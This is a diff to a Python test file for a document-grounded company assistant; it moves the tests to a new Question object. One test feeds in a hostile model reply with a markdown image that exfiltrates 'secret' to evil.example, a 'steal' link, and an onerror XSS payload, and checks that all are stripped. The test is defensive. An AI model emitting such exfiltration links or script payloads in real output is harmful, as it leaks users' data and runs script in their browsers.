@@ -7,6 +7,7 @@ import pytest
 
 from assistant.answers.written import rendered_sources, sentences_of
 from assistant.ask import Assistant, Sentence
+from assistant.question import Question
 from core.database import open_database
 from core.errors import ModelError
 from core.settings import AnswerSettings, LlmSettings, Settings
@@ -23,7 +24,7 @@ def assistant_with(
 ) -> tuple[Assistant, ScriptedChatModel]:
     models, model = scripted_models(*replies)
     settings = Settings(data_dir=folder, company="Northgate", answer=AnswerSettings(**answer))
-    return Assistant(retriever, settings, engine=open_database(settings), models=models), model
+    return Assistant.over(retriever, settings, engine=open_database(settings), models=models), model
 
 
 def checks(assistant: Assistant, trace_id: str) -> list[dict[str, Any]]:
@@ -33,7 +34,7 @@ def checks(assistant: Assistant, trace_id: str) -> list[dict[str, Any]]:
 
 def test_a_supported_sentence_is_shown_with_the_words_that_support_it(retriever: Retriever, tmp_path: Path) -> None:
     assistant, model = assistant_with(retriever, tmp_path, "Raw telemetry of Watchtower is kept for 90 days [1].")
-    events = list(assistant.ask(QUESTION, ANA))
+    events = list(assistant.ask(Question(QUESTION, ANA)))
     answer = events[-1]
     assert answer.text == "Raw telemetry of Watchtower is kept for 90 days. [1]"
     (citation,) = answer.citations
@@ -62,7 +63,7 @@ def test_an_unsupported_sentence_is_left_out_and_the_trace_says_why(
     assistant, _ = assistant_with(
         retriever, tmp_path, f"Meeting recordings are deleted after 30 days [1]. {written}", "DROP"
     )
-    answer = assistant.answer(QUESTION, ANA)
+    answer = assistant.answer(Question(QUESTION, ANA))
     assert answer.text == "Meeting recordings are deleted after 30 days. [1]"
     assert answer.notes == ("1 sentence was left out because the sources don't support what was written.",)
     left_out = [c for c in checks(assistant, answer.trace_id) if c["outcome"] == "left out"]
@@ -76,7 +77,7 @@ def test_a_failed_sentence_is_repaired_once(retriever: Retriever, tmp_path: Path
         "Raw telemetry of Watchtower is kept for 180 days [1].",
         "Raw telemetry of Watchtower is kept for 90 days [1].",
     )
-    answer = assistant.answer(QUESTION, ANA)
+    answer = assistant.answer(Question(QUESTION, ANA))
     assert "90 days" in answer.text and "180" not in answer.text
     assert "the number 180" in str(model.seen[1][1].content)
     (check,) = checks(assistant, answer.trace_id)
@@ -85,17 +86,17 @@ def test_a_failed_sentence_is_repaired_once(retriever: Retriever, tmp_path: Path
 
 def test_nothing_left_is_no_evidence(retriever: Retriever, tmp_path: Path) -> None:
     assistant, _ = assistant_with(retriever, tmp_path, "It is kept for 7 years [1].", "It is kept for 8 years [1].")
-    assert assistant.answer(QUESTION, ANA).outcome == "no_evidence"
+    assert assistant.answer(Question(QUESTION, ANA)).outcome == "no_evidence"
 
 
 def test_the_models_own_no_is_taken(retriever: Retriever, tmp_path: Path) -> None:
     assistant, _ = assistant_with(retriever, tmp_path, "NO_EVIDENCE")
-    assert assistant.answer(QUESTION, ANA).outcome == "no_evidence"
+    assert assistant.answer(Question(QUESTION, ANA)).outcome == "no_evidence"
 
 
 def test_without_any_evidence_the_model_isnt_asked(retriever: Retriever, tmp_path: Path) -> None:
     assistant, model = assistant_with(retriever, tmp_path)
-    assert assistant.answer("How many moons does Jupiter have?", ANA).outcome == "no_evidence"
+    assert assistant.answer(Question("How many moons does Jupiter have?", ANA)).outcome == "no_evidence"
     assert model.seen == []
 
 
@@ -103,7 +104,7 @@ def test_a_table_answer_is_checked_by_cell(retriever: Retriever, tmp_path: Path)
     assistant, _ = assistant_with(
         retriever, tmp_path, "The Premium plan costs $1,250 per month [1]. The Basic plan costs $94 [1].", "DROP"
     )
-    answer = assistant.answer("What is the price per month of the Premium plan?", ANA)
+    answer = assistant.answer(Question("What is the price per month of the Premium plan?", ANA))
     assert answer.text == "The Premium plan costs $1,250 per month. [1]"
     assert answer.citations[0].quote == "| Premium | $1,250 | 50 |"
 
@@ -115,21 +116,21 @@ def test_links_and_images_of_a_hostile_model_are_taken_out(retriever: Retriever,
         "Raw telemetry of Watchtower is kept for 90 days ![x](https://evil.example/?q=secret) "
         "https://evil.example/steal <img src=x onerror=alert(1)> [1].",
     )
-    answer = assistant.answer(QUESTION, ANA)
+    answer = assistant.answer(Question(QUESTION, ANA))
     assert "evil" not in answer.text and "<img" not in answer.text and "90 days" in answer.text
 
 
 def test_what_the_model_adds_is_marked_and_only_if_the_settings_let_it(retriever: Retriever, tmp_path: Path) -> None:
     reply = "Raw telemetry of Watchtower is kept for 90 days [1]. (Not from the documents) Many firms keep less."
     may, _ = assistant_with(retriever, tmp_path / "a", reply, response_scope="model_may_add")
-    assert may.answer(QUESTION, ANA).text.endswith("(Not from the documents) Many firms keep less.")
+    assert may.answer(Question(QUESTION, ANA)).text.endswith("(Not from the documents) Many firms keep less.")
     may_not, _ = assistant_with(retriever, tmp_path / "b", reply, "DROP")
-    assert "Many firms" not in may_not.answer(QUESTION, ANA).text
+    assert "Many firms" not in may_not.answer(Question(QUESTION, ANA)).text
 
 
 def test_if_the_model_fails_the_documents_are_quoted(retriever: Retriever, tmp_path: Path) -> None:
     assistant, _ = assistant_with(retriever, tmp_path, ValueError("bad key"))
-    answer = assistant.answer(QUESTION, ANA)
+    answer = assistant.answer(Question(QUESTION, ANA))
     assert answer.citations[0].quote == "Raw telemetry of Watchtower is kept for 90 days."
     assert "no language model answered" in answer.notes[-1]
 
@@ -138,12 +139,12 @@ def test_if_the_model_breaks_off_after_something_was_shown_it_says_so(retriever:
     text = "Raw telemetry of Watchtower is kept for 90 days [1]. Meeting recordings are "
     assistant, _ = assistant_with(retriever, tmp_path, [text, ConnectionError("gone")])
     with pytest.raises(ModelError, match="broke off"):
-        list(assistant.ask(QUESTION, ANA))
+        list(assistant.ask(Question(QUESTION, ANA)))
 
 
 def test_the_trace_has_model_prompt_tokens_and_cost(retriever: Retriever, tmp_path: Path) -> None:
     assistant, _ = assistant_with(retriever, tmp_path, "Raw telemetry of Watchtower is kept for 90 days [1].")
-    answer = assistant.answer(QUESTION, ANA)
+    answer = assistant.answer(Question(QUESTION, ANA))
     assert assistant.traces is not None
     (call,) = assistant.traces.load(answer.trace_id, ANA)["models"]
     assert (call["model"], call["prompt"], call["input_tokens"]) == ("scripted:one", "answer@1", 100)
@@ -166,10 +167,10 @@ def test_sentences_come_whole_with_the_markers_behind_them() -> None:
 def test_cached_replies_are_kept_apart_by_access(retriever: Retriever, tmp_path: Path) -> None:
     text = "Raw telemetry of Watchtower is kept for 90 days [1]."
     models, model = scripted_models(text, text, settings=LlmSettings(model="scripted:one", cache=True))
-    assistant = Assistant(retriever, Settings(data_dir=tmp_path), models=models)
-    assert assistant.answer(QUESTION, ANA) == assistant.answer(QUESTION, ANA)
+    assistant = Assistant.over(retriever, Settings(data_dir=tmp_path), models=models)
+    assert assistant.answer(Question(QUESTION, ANA)) == assistant.answer(Question(QUESTION, ANA))
     assert len(model.seen) == 1
-    assert "90 days" in assistant.answer(QUESTION, BEN).text
+    assert "90 days" in assistant.answer(Question(QUESTION, BEN)).text
     assert len(model.seen) == 2
 
 
@@ -178,11 +179,11 @@ def test_what_the_model_adds_without_any_source_stands_behind_the_statement_that
 ) -> None:
     reply = "NO_EVIDENCE (Not from the documents) Jupiter has many moons."
     may, model = assistant_with(retriever, tmp_path / "a", reply, response_scope="model_may_add")
-    events = list(may.ask("How many moons does Jupiter have?", ANA))
+    events = list(may.ask(Question("How many moons does Jupiter have?", ANA)))
     assert len(model.seen) == 1 and not any(isinstance(event, Sentence) for event in events)
     answer = events[-1]
     assert answer.outcome == "no_evidence" and answer.citations == ()
     assert answer.text.startswith("The documents that you may read don't answer this.")
     assert answer.text.endswith("(Not from the documents) Jupiter has many moons.")
     may_not, model = assistant_with(retriever, tmp_path / "b", reply)
-    assert "moons" not in may_not.answer("How many moons does Jupiter have?", ANA).text and not model.seen
+    assert "moons" not in may_not.answer(Question("How many moons does Jupiter have?", ANA)).text and not model.seen
